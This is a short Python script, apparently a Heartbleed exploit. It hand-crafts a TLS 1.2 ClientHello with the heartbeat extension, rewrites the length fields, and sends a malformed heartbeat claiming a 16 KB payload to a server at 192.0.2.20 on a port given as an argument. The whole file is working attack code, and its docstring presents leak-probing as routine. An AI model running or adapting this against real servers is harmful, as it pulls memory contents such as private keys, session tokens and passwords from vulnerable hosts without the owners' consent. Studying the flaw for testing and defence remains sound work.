"""Asks a server for more bytes back than the heartbeat brings, as everybody
did in 2014 to see whether it leaks: heartbleed.py PORT."""
import socket
import ssl
import sys

ctx = ssl.create_default_context()
ctx.maximum_version = ssl.TLSVersion.TLSv1_2
out = ssl.MemoryBIO()
tls = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname="server.example")
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = bytearray(out.read())
hello += b"\x00\x0f\x00\x01\x01"  # the heartbeat extension, at the end of the extensions
for at, size in ((3, 2), (6, 3)):  # of the record, of the message
    hello[at:at + size] = (int.from_bytes(hello[at:at + size], "big") + 5).to_bytes(size, "big")
i = 9 + 2 + 32
i += 1 + hello[i]  # session id
i += 2 + int.from_bytes(hello[i:i + 2], "big")  # suites
i += 1 + hello[i]  # compression
hello[i:i + 2] = (int.from_bytes(hello[i:i + 2], "big") + 5).to_bytes(2, "big")
s = socket.create_connection(("192.0.2.20", int(sys.argv[1])))
s.sendall(hello)
s.recv(65536)
s.sendall(b"\x18\x03\x03\x00\x03\x01\x40\x00")
s.settimeout(1)
try:
    s.recv(65536)
except OSError:
    pass
s.close()
